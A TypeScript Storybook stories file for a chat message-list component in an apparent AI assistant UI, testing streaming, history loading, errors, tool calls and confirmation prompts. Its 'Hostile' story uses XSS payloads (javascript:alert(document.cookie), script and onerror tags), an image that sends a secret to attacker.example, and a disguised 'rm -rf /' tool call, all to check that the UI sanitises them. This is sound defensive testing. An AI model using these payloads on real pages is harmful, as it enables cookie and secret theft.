import type { Meta, StoryObj } from '@storybook/react-vite';
import * as React from 'react';
import { expect, fn, userEvent, waitFor, within } from 'storybook/test';
import type { ContentBlock, Msg } from '../../src/core.js';
import { textBlock, toolCallBlock, toolResultBlock, userMsg } from '../../src/core.js';
import type { MessageListProps } from '../../src/components/message-list/message-list.js';
import { MessageList } from '../../src/components/message-list/message-list.js';
import { foldedReply } from '../fixtures/conversations.js';

/* -------------------------------------------------------------------------------------------------
 * Conversations
 * -----------------------------------------------------------------------------------------------*/

const T = '2026-09-01T12:00:00';

function reply(id: string, content: ContentBlock[], open = false): Msg {
  return {
    ...foldedReply(),
    id,
    content,
    usage: null,
    finished_at: open ? null : T,
    finished_reason: open ? null : 'completed',
  };
}

function text(value: string, id: string, open = false): ContentBlock {
  return textBlock(value, { id, created_at: T, finished_at: open ? null : T });
}

function question(index: number): Msg {
  return userMsg(`Question ${index}: what about step ${index}?`, {
    id: `u${index}`,
    created_at: T,
  });
}

/** `turns` exchanges; every fifth reply is the full folded reply (thinking, a tool, a table). */
function conversation(turns: number, from = 0): Msg[] {
  return Array.from({ length: turns }, (_, i) => {
    const n = from + i;
    const answer =
      Math.abs(n) % 5 === 4
        ? { ...foldedReply(), id: `a${n}` }
        : reply(`a${n}`, [
            text(`Answer ${n}. ${'Some explanation. '.repeat(1 + (Math.abs(n) % 7))}`, `t${n}`),
          ]);
    return [question(n), answer];
  }).flat();
}

const HUGE = Array.from({ length: 10_000 }, (_, i) =>
  i % 2 === 0
    ? question(i)
    : reply(`h${i}`, [text(`Reply ${i}: ${'lorem ipsum '.repeat(1 + (i % 9))}`, `ht${i}`)]),
);

/** AgentFlow's shape: calls in the assistant message, each result in a `tool` message. */
function withToolMessages(): Msg[] {
  const call = toolCallBlock({
    id: 'call-w',
    name: 'get_weather',
    input: '{"city": "Paris"}',
    state: 'finished',
    created_at: T,
    finished_at: T,
  });
  const result = toolResultBlock({
    id: 'call-w',
    name: 'get_weather',
    output: '18 °C, light rain',
    state: 'success',
    created_at: T,
    finished_at: T,
  });
  return [
    ...conversation(3),
    userMsg('And the weather in Paris?', { id: 'uw', created_at: T }),
    reply('aw', [call]),
    { ...reply('tw', [result]), role: 'tool', name: 'get_weather' },
    reply('aw2', [text('It is 18 °C with light rain: take an umbrella.', 'tw2')]),
  ];
}

function askingConversation(): Msg[] {
  const call = toolCallBlock({
    id: 'call-b',
    name: 'Bash',
    input: '{"command": "git push --force"}',
    state: 'asking',
    created_at: T,
    finished_at: T,
    suggested_rules: [
      { tool_name: 'Bash', rule_content: 'git push:*', behavior: 'allow', source: 'suggested' },
    ],
  });
  return [
    ...conversation(6),
    userMsg('Push my branch.', { id: 'ub', created_at: T }),
    reply('ab', [text('I will push the branch.', 'tb'), call], true),
  ];
}

const HOSTILE_TEXT = `[Click to verify](javascript:alert(document.cookie))

<img src=x onerror="window.__pwned = true"> <script>window.__pwned = true</script>

![tracking pixel](https://attacker.example/collect?secret=sk-12345)`;

function hostileConversation(): Msg[] {
  return [
    { ...question(0), name: '<img src=x onerror=alert(1)>\u202Eevil' },
    reply('x1', [
      text(HOSTILE_TEXT, 'hx'),
      toolCallBlock({
        id: 'call-x',
        name: 'rm\u202E-rf',
        input: '{"path": "/\u200b"}',
        state: 'finished',
        created_at: T,
        finished_at: T,
      }),
      { type: 'mystery_widget', id: 'w' } as never,
    ]),
    {
      ...reply('x2', [
        toolResultBlock({
          id: 'orphan',
          name: '<script>',
          output: '<script>window.__pwned = true</script>',
          state: 'error',
          created_at: T,
          finished_at: T,
        }),
      ]),
      role: 'tool',
    },
  ];
}

/* -------------------------------------------------------------------------------------------------
 * Helpers
 * -----------------------------------------------------------------------------------------------*/

function logIn(canvasElement: HTMLElement): HTMLElement {
  return within(canvasElement).getByRole('log');
}

async function atTheEnd(log: HTMLElement) {
  await waitFor(() => expect(log.scrollHeight - log.clientHeight - log.scrollTop).toBeLessThan(2));
}

/** A reply that grows by a paragraph every 120 ms, then finishes. */
function StreamingConversation(props: Omit<MessageListProps, 'messages'>) {
  const [history] = React.useState(() => conversation(12));
  const [step, setStep] = React.useState(0);
  React.useEffect(() => {
    if (step >= 12) return;
    const timer = setTimeout(() => setStep((n) => n + 1), 120);
    return () => clearTimeout(timer);
  }, [step]);
  const body = Array.from(
    { length: step },
    (_, i) => `Paragraph ${i + 1}. ${'More words. '.repeat(6)}`,
  );
  const tail =
    step === 0
      ? reply('live', [], true)
      : reply('live', [text(body.join('\n\n'), 'live-text', step < 12)], step < 12);
  return <MessageList {...props} messages={[...history, tail]} />;
}

/** Loads 20 older messages (after a short delay) whenever the user nears the top. */
function HistoryConversation(props: Omit<MessageListProps, 'messages'>) {
  const [first, setFirst] = React.useState(0);
  const [loadingOlder, setLoadingOlder] = React.useState(false);
  const messages = React.useMemo(() => conversation(40 - first, first), [first]);
  const loadOlder = React.useCallback(() => {
    if (first <= -40) return;
    setLoadingOlder(true);
    setTimeout(() => {
      setFirst((n) => n - 10);
      setLoadingOlder(false);
    }, 300);
  }, [first]);
  return (
    <MessageList
      {...props}
      messages={messages}
      onReachTop={loadOlder}
      loadingOlder={loadingOlder}
    />
  );
}

/* -------------------------------------------------------------------------------------------------
 * Stories
 * -----------------------------------------------------------------------------------------------*/

const meta = {
  title: 'List/MessageList',
  component: MessageList,
  args: { messages: [], style: { height: 480 } },
} satisfies Meta<typeof MessageList>;

export default meta;
type Story = StoryObj<typeof meta>;

export const Empty: Story = {
  play: async ({ canvasElement }) => {
    await expect(within(canvasElement).getByText('No messages yet')).toBeVisible();
  },
};

export const Loading: Story = {
  args: { loading: true },
  play: async ({ canvasElement }) => {
    await expect(within(canvasElement).getByText('Loading…')).toBeVisible();
    await expect(logIn(canvasElement)).toHaveAttribute('aria-busy', 'true');
  },
};

export const Thinking: Story = {
  args: { messages: [...conversation(2), question(9), reply('pending', [], true)] },
  play: async ({ canvasElement }) => {
    await expect(within(canvasElement).getByText('Friday is thinking…')).toBeVisible();
  },
};

export const Streaming: Story = {
  render: (args) => <StreamingConversation style={args.style} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await waitFor(() => expect(canvas.getByText(/Paragraph 12\./)).toBeVisible(), {
      timeout: 5000,
    });
    const log = logIn(canvasElement);
    await atTheEnd(log);
    await expect(log).toHaveAttribute('data-following');
    await waitFor(() =>
      expect(canvasElement.querySelector('[data-politeness="polite"]')).toHaveTextContent(
        'Friday finished replying',
      ),
    );
  },
};

export const Done: Story = {
  args: { messages: conversation(100) },
  play: async ({ canvasElement }) => {
    const log = logIn(canvasElement);
    await atTheEnd(log);
    await expect(within(canvasElement).getByText('Question 99: what about step 99?')).toBeVisible();
    log.scrollTop = 0;
    await waitFor(() =>
      expect(within(canvasElement).getByRole('button', { name: 'Jump to latest' })).toBeVisible(),
    );
    await userEvent.click(within(canvasElement).getByRole('button', { name: 'Jump to latest' }));
    await atTheEnd(log);
  },
};

export const Error: Story = {
  args: {
    messages: [
      ...conversation(4),
      question(4),
      {
        ...reply('failed', [text('Let me look that up', 'tf')]),
        finished_reason: 'error',
        error: { type: 'rate_limit', message: 'Too many requests, retry in 20 s.' },
      },
    ],
  },
  play: async ({ canvasElement }) => {
    await expect(
      within(canvasElement).getByText('Too many requests, retry in 20 s.'),
    ).toBeVisible();
  },
};

/** A message the app could not send: `error` shows under it, and Dismiss clears it. */
function SendFailedConversation({ style }: Pick<MessageListProps, 'style'>) {
  const [error, setError] = React.useState<Error | null>(
    () => new globalThis.Error('The message could not be sent (HTTP 503). Try again.'),
  );
  return (
    <MessageList
      messages={[...conversation(4), question(4)]}
      error={error}
      onDismissError={() => setError(null)}
      style={style}
    />
  );
}

export const SendFailed: Story = {
  render: (args) => <SendFailedConversation style={args.style} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const alert = canvasElement.querySelector('[data-slot="message-list-error-text"]');
    await expect(alert).toHaveAttribute('role', 'alert');
    await expect(alert).toHaveTextContent('The message could not be sent (HTTP 503). Try again.');
    await atTheEnd(logIn(canvasElement));
    await userEvent.click(canvas.getByRole('button', { name: 'Dismiss' }));
    await expect(canvasElement.querySelector('[data-slot="message-list-error"]')).toBeNull();
  },
};

/** The stream's own error, shown as is: no dismiss button, it goes when the stream recovers. */
export const StreamError: Story = {
  args: {
    messages: [...conversation(2), question(2)],
    error: new globalThis.Error('HTTP 502 from /sessions/s1/stream'),
  },
  play: async ({ canvasElement }) => {
    await expect(
      within(canvasElement).getByText('HTTP 502 from /sessions/s1/stream'),
    ).toBeVisible();
    await expect(within(canvasElement).queryByRole('button', { name: 'Dismiss' })).toBeNull();
  },
};

export const Huge: Story = {
  args: { messages: HUGE },
  play: async ({ canvasElement }) => {
    await atTheEnd(logIn(canvasElement));
    // The end rows render in the frame after the scroll lands there.
    await expect(await within(canvasElement).findByText(/^Reply 9999:/)).toBeVisible();
    const rendered = canvasElement.querySelectorAll('[data-slot="message"]').length;
    await expect(rendered).toBeGreaterThan(0);
    await expect(rendered).toBeLessThanOrEqual(40);
  },
};

export const Hostile: Story = {
  args: { messages: hostileConversation(), showToolMessages: true },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('script, img[src="x"], iframe')).toBeNull();
    await expect(canvasElement.querySelector('[href^="javascript:"]')).toBeNull();
    await expect(canvasElement.querySelector('img[src^="https://attacker"]')).toBeNull();
    await expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
  },
};

export const AwaitingConfirmation: Story = {
  args: { messages: askingConversation(), onDecision: fn() },
  play: async ({ canvasElement, args }) => {
    const canvas = within(canvasElement);
    await waitFor(() =>
      expect(
        canvasElement.querySelector('[data-slot="confirmation-prompt"][data-armed]'),
      ).not.toBeNull(),
    );
    await userEvent.click(canvas.getByRole('button', { name: 'Allow' }));
    await expect(args.onDecision).toHaveBeenCalledWith(
      expect.objectContaining({ confirmed: true }),
    );
    await expect(canvasElement.querySelector('[data-politeness="assertive"]')).toBeInTheDocument();
  },
};

export const ToolMessages: Story = {
  args: { messages: withToolMessages() },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('[data-slot="message"][data-role="tool"]')).toBeNull();
    await expect(
      canvasElement.querySelector('[data-slot="tool-call-card"][data-status="success"]'),
    ).not.toBeNull();
  },
};

export const ToolMessagesShown: Story = {
  args: { messages: withToolMessages(), showToolMessages: true },
  play: async ({ canvasElement }) => {
    await expect(
      canvasElement.querySelector('[data-slot="message"][data-role="tool"]'),
    ).not.toBeNull();
  },
};

export const LoadOlder: Story = {
  render: (args) => <HistoryConversation style={args.style} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const log = logIn(canvasElement);
    await atTheEnd(log);
    log.scrollTop = 0;
    await waitFor(() => expect(canvas.getByText('Loading earlier messages…')).toBeVisible());
    await waitFor(() => expect(canvas.queryByText('Loading earlier messages…')).toBeNull());
    // Ten older turns arrived above, and the reader stays where they were.
    const first = canvas.getByText('Question 0: what about step 0?');
    await expect(first.closest('[data-slot="message-list-item"]')).toHaveAttribute(
      'data-index',
      '20',
    );
    await expect(first).toBeVisible();
    const top = first.getBoundingClientRect().top - log.getBoundingClientRect().top;
    await expect(top).toBeGreaterThanOrEqual(-1);
    await expect(top).toBeLessThan(log.clientHeight);
  },
};

export const AllStates: Story = {
  render: () => (
    <div style={{ display: 'grid', gridTemplateColumns: 'repeat(2, 1fr)', gap: 16 }}>
      <MessageList label="Empty" messages={[]} style={{ height: 240 }} />
      <MessageList label="Loading" messages={[]} loading style={{ height: 240 }} />
      <MessageList
        label="Thinking"
        messages={[question(1), reply('p', [], true)]}
        style={{ height: 240 }}
      />
      <MessageList
        label="Loading older"
        messages={conversation(3)}
        loadingOlder
        style={{ height: 240 }}
      />
    </div>
  ),
};
